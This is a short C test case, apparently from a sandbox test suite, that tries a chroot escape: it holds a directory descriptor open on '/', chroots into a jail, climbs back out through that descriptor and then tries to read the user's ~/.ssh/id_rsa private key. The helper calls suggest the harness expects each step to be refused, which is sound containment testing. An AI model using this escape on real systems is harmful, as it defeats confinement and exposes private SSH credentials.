// name: leave through a directory kept open over a chroot
// line: 50
// needs: root
#include "attack.h"

int main(void)
{
    char path[1200];
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", stage("home"));
    int place = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("jail", 0700);
    if (chroot("jail") != 0)
        refused_on("chroot");
    if (place >= 0 && fchdir(place) == 0) {
        for (int up = 0; up < 40; up++)
            if (chdir("..") != 0)
                break;
        if (chroot(".") != 0)
            note("chroot");
    }
    secret_at(path, "after chroot");
    refused_all();
}
